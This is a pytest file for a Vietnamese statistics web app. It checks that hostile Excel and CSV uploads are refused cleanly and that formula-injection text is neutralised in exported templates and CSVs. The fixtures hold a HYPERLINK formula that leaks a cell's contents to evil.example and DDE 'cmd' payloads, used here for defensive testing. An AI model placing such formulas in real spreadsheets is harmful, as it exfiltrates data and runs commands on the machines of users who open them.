"""Hostile files uploaded as a form's Excel template answer 400 with the message (never a
500, never a dead worker) and store nothing; text that a spreadsheet would run as a formula
comes back as text in the template and in the dashboard's CSV (issue 11)."""

from __future__ import annotations

import io
import re
import time

import pytest
from openpyxl import Workbook, load_workbook
from tests import hostile as h
from tests.web.conftest import FORM, OWN, PERIOD, WebEnv, csrf, make_env

from chitieu.interop.cells import csv_cell, is_risky, neutralise

ENTRY = f"/entry/{FORM}/{OWN}/{PERIOD}"
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    """One app for the module (a refused upload changes nothing; signing in costs a hash)."""
    e = make_env(f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'web.db'}")
    yield e
    e.store.engine.dispose()


@pytest.fixture(scope="module")
def reporter(env: WebEnv):  # type: ignore[no-untyped-def]
    """The reporter's signed-in client."""
    return env.browser("reporter")


def upload(c, name: str, data: bytes):  # type: ignore[no-untyped-def]
    return c.post(
        ENTRY + "/upload",
        data={"csrf_token": csrf(c, ENTRY)},
        files={"file": (name, data, "application/octet-stream")},
    )


CASES = [
    ("x.xlsx", h.far_cell_xlsx, "XFD1048576"),
    ("bomb.xlsx", lambda: h.zip_bomb(64), "xl/worksheets/sheet1.xml"),
    ("liar.xlsx", lambda: h.zip_bomb(64, declared=1000), "xl/worksheets/sheet1.xml"),
    ("entities.xlsx", h.entity_bomb_xlsx, "DOCTYPE"),
    ("broken.xlsx", h.malformed_xlsx, "Số liệu"),
    ("macros.xlsx", h.macro_xlsx, "macro"),
    ("renamed.xlsx", lambda: b"indicator,unit\n", "renamed.xlsx"),
    ("cut.xlsx", lambda: h.good_xlsx()[:900], "cut.xlsx"),
    ("data.tsv", lambda: b"indicator\tunit\n", ".tsv"),
    ("data.txt", lambda: b"indicator,unit\n", ".txt"),
    ("macros.xlsm", h.macro_xlsx, ".xlsm"),
    ("wide.csv", lambda: (h.wide_csv() + "a\n").encode(), "18.279"),
    ("long.csv", lambda: (",".join(h.HEADER) + "\nICT_REVENUE,01@34,2026S1,1,estimate,"
                          + "x" * 200_000 + "\n").encode(), "comment"),
    # issue 15: the sheet wherever the relationships put it (each ended the server: SIGABRT)
    *[(f"far-{i}.xlsx", lambda t=t, e=e: h.far_cell_at(t, e), "XFD1048576")
      for i, (t, e) in enumerate(h.SHEET_PATHS)],
    ("strings.xlsx", lambda: h.shared_strings_xlsx(250_000), "xl/sharedStrings.xml"),
    ("u16.csv", lambda: (",".join(h.HEADER) + "\n").encode("utf-16-le"), "UTF-16 LE"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "make", "place"), CASES, ids=[c[0] for c in CASES])
def test_a_hostile_upload_answers_400_with_its_place_and_stores_nothing(
    env, reporter, name, make, place
):
    c = reporter
    before = env.store.count()
    t0 = time.monotonic()
    r = upload(c, name, make())
    assert time.monotonic() - t0 < 5
    assert r.status_code == 400, (r.status_code, r.text[:800])
    problem = re.search(r'<p class="alert error">(.*?)</p>', r.text, re.S)
    assert problem and name in problem.group(1), r.text[:1500]
    assert place in r.text
    assert '<p class="hint">' in r.text  # how to fix it
    assert env.store.count() == before
    assert c.get(ENTRY).status_code == 200  # the worker is alive


def test_a_template_shaped_zip_bomb_is_refused_by_the_uploads_own_limit(reporter, monkeypatch):
    monkeypatch.setenv("CHITIEU_MAX_ZIP_RATIO", "100000")  # the declared size decides
    c = reporter
    t0 = time.monotonic()
    r = upload(c, "bomb.xlsx", h.zip_bomb(64))
    assert r.status_code == 400 and time.monotonic() - t0 < 2
    assert "CHITIEU_MAX_UPLOAD_UNZIPPED_MB" in r.text


def test_an_upload_over_the_body_limit_gets_the_413_page_not_a_500(reporter):
    # issue 15: a 45 MB workbook (over the 10 MiB body limit) ended in "SessionMiddleware
    # must be installed" and a 500: the refusal's page asked for a session it had not
    r = upload(reporter, "big.xlsx", h.shared_strings_xlsx(9_000_000))
    assert r.status_code == 413, r.text[:800]
    assert "CHITIEU_MAX_BODY_MB" in r.text and "Traceback" not in r.text
    assert reporter.get(ENTRY).status_code == 200


def test_an_upload_over_its_size_limit_is_refused_without_reading_it_all(reporter, monkeypatch):
    monkeypatch.setenv("CHITIEU_MAX_UPLOAD_MB", "0.01")
    c = reporter
    r = upload(c, "big.xlsx", h.good_xlsx() + bytes(20_000))
    assert r.status_code == 400 and "CHITIEU_MAX_UPLOAD_MB" in r.text


# --- formula injection ------------------------------------------------------------------


def test_a_comment_starting_with_equals_comes_back_as_text_in_the_template(reporter):
    c = reporter
    page = c.get(ENTRY)
    version = re.search(r'name="version" value="([^"]+)"', page.text).group(1)
    form = {"csrf_token": csrf(c, ENTRY), "version": version, "action": "save",
            "v__ICT_REVENUE": "1614206", "c__ICT_REVENUE": ATTACK,
            "v__ICT_BUDGET": "45405", "c__ICT_BUDGET": "+1+cmd|' /C calc'!A0"}  # fmt: skip
    saved = c.post(ENTRY, data=form)
    assert saved.status_code == 200, saved.text[:800]
    r = c.get(ENTRY + "/template.xlsx?layout=long")
    wb = load_workbook(io.BytesIO(r.content))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    ws = wb["Số liệu"]
    comment = {ws.cell(i, 1).value: ws.cell(i, 10) for i in range(2, ws.max_row + 1)}
    assert comment["ICT_REVENUE"].value == ATTACK and comment["ICT_REVENUE"].quotePrefix
    assert comment["ICT_BUDGET"].value.startswith("+1") and comment["ICT_BUDGET"].quotePrefix
    value = ws.cell(2, 8)
    assert value.value == 1614206 and value.data_type == "n"  # numbers stay numbers


def test_neutralise_keeps_numbers_and_negative_numbers(tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append([-5, -5.5, "-5", "-5 tỷ", "=1+1", "@SUM(A1)", "\tx", "bình thường", None])
    neutralise(wb)
    wb.save(tmp_path / "t.xlsx")
    got = load_workbook(tmp_path / "t.xlsx").active
    types = [(c.value, c.data_type, bool(c.quotePrefix)) for c in got[1]]
    assert types[:3] == [(-5, "n", False), (-5.5, "n", False), ("-5", "s", False)]
    assert [t[2] for t in types[3:8]] == [True, True, True, True, False]
    assert all(t[1] != "f" for t in types)
    assert [is_risky(s) for s in ("=A1", " =A1", "＝A1", "-1", "1,5", "+84 912")] == [
        True, True, True, False, False, True,
    ]  # fmt: skip
    assert [csv_cell(v) for v in (-5.0, "-5", "=A1", "x")] == [-5.0, "-5", "'=A1", "x"]


class _Fact:
    def __init__(self, indicator: str, value: float) -> None:
        self.unit, self.value, self.indicator = OWN, value, indicator
        self.withheld, self.decimals = {}, 1


class _Facts:
    def __init__(self, facts: list[_Fact]) -> None:
        self.facts = facts

    def of_unit(self, unit: str) -> list[_Fact]:
        return self.facts  # whichever unit the view shows


def test_the_dashboard_csv_neutralises_text_a_spreadsheet_would_run(env, monkeypatch):
    """Names a spreadsheet would run (a catalog's own text) leave as text; a negative number
    stays a number."""
    from types import SimpleNamespace

    from chitieu.catalog.periods import parse_period
    from chitieu.web.routes import dashboard
    from chitieu.web.routes.dashboard_data import figure_text

    facts = _Facts([_Fact(ATTACK, 1.0), _Fact("@SUM(1+1)*cmd|' /C calc'!A0", -5.0)])

    def fake_figure(f, ind, lang):  # type: ignore[no-untyped-def]
        text = figure_text(f.value, f.decimals, lang)
        return dashboard.Figure(f, f.indicator, "", text, "", "", "", "", "", "", "", "", "")

    monkeypatch.setattr(dashboard, "_facts", lambda *a, **k: (facts, parse_period("2025S1"), None))
    monkeypatch.setattr(dashboard, "catalog", lambda: SimpleNamespace(get=lambda code: None))
    monkeypatch.setattr(dashboard, "figure", fake_figure)
    r = env.browser("analyst").get("/dashboard/figures.csv", params={"period": "2025S1"})
    assert r.status_code == 200
    import csv

    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
    assert rows[1][0] == "'" + ATTACK and rows[2][0].startswith("'@")
    assert rows[2][2] == "-5,0"  # a negative number is a number, not text
    assert all(not cell.startswith(("=", "+", "@")) for row in rows[1:] for cell in row)


# --- issue 15: the child parser; formulas without a result; invisible characters -----------


def _template(c):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(c.get(ENTRY + "/template.xlsx?layout=long").content))


def _saved(wb) -> bytes:  # type: ignore[no-untyped-def]
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_a_parser_abort_refuses_the_upload_and_the_server_answers_the_next(
    env, reporter, monkeypatch
):
    from chitieu.collect.childparser import TEST_FAULT

    c = reporter
    before = env.store.count()
    wb = _template(c)
    wb["Số liệu"]["H2"] = 1_700_015  # a value not stored yet
    data = _saved(wb)
    monkeypatch.setenv(TEST_FAULT, "1")  # the child parser calls os.abort()
    r = upload(c, "bieu.xlsx", data)
    assert r.status_code == 400, r.text[:800]
    assert "SIGABRT" in r.text and "bieu.xlsx" in r.text and '<p class="hint">' in r.text
    assert env.store.count() == before
    assert c.get(ENTRY).status_code == 200  # the server answers the next request
    monkeypatch.delenv(TEST_FAULT)
    ok = upload(c, "bieu.xlsx", data)  # and reads the next file
    assert ok.status_code == 200 and env.store.count() == before + 1, ok.text[:800]


def test_a_formula_without_a_result_is_an_error_at_its_cell_not_a_blank(env, reporter):
    c = reporter
    before = env.store.count()
    wb = _template(c)
    wb["Số liệu"]["H3"] = "=1000+405"  # openpyxl writes the formula without its result
    r = upload(c, "bieu.xlsx", _saved(wb))
    assert r.status_code == 422, r.text[:800]
    assert '<td class="cell">H3</td>' in r.text and "LibreOffice" in r.text
    assert env.store.count() == before


def test_an_invisible_character_in_an_upload_is_named(env, reporter):
    c = reporter
    wb = _template(c)
    ws = wb["Số liệu"]
    ws["H2"], ws["J2"] = 5, "ghi\u200bchú"
    r = upload(c, "bieu.xlsx", _saved(wb))
    assert r.status_code == 422, r.text[:800]
    assert '<td class="cell">J2</td>' in r.text and "U+200B" in r.text


def test_an_invisible_character_sent_to_the_api_is_named_at_its_index(env):
    api = env.api("analyst")
    before = env.store.count()
    body = {"values": [{"indicator": "ICT_REVENUE\u200b", "unit": "VN", "period": "2023S1",
                        "kind": "estimate", "value": 5}]}  # fmt: skip
    r = api.post("/api/v1/values", json=body)
    assert r.status_code == 422, r.text[:800]
    [f] = r.json()["report"]["findings"]
    assert (f["type"], f["index"], f["column"]) == ("invisible-text", 0, "indicator")
    assert "U+200B" in f["message"]["en"] and "U+200B" in f["message"]["vi"]
    assert env.store.count() == before


@pytest.mark.parametrize("query", ["state=%00", "period=2025%00S1", "form=TTTT%00-6T"])
def test_a_nul_in_the_address_is_refused_before_the_store_sees_it(env, query):
    """A NUL character in a query (PostgreSQL refuses it in text: a 503 before) is a 422 that
    says so, on every route (CI run of stop 24: ``/api/v1/queue?state=%00``)."""
    c = env.api("analyst")
    for path in ("/api/v1/queue", "/queue"):
        r = c.get(f"{path}?{query}")
        assert r.status_code == 422, (path, r.status_code, r.text[:200])
        assert "NUL" in r.text
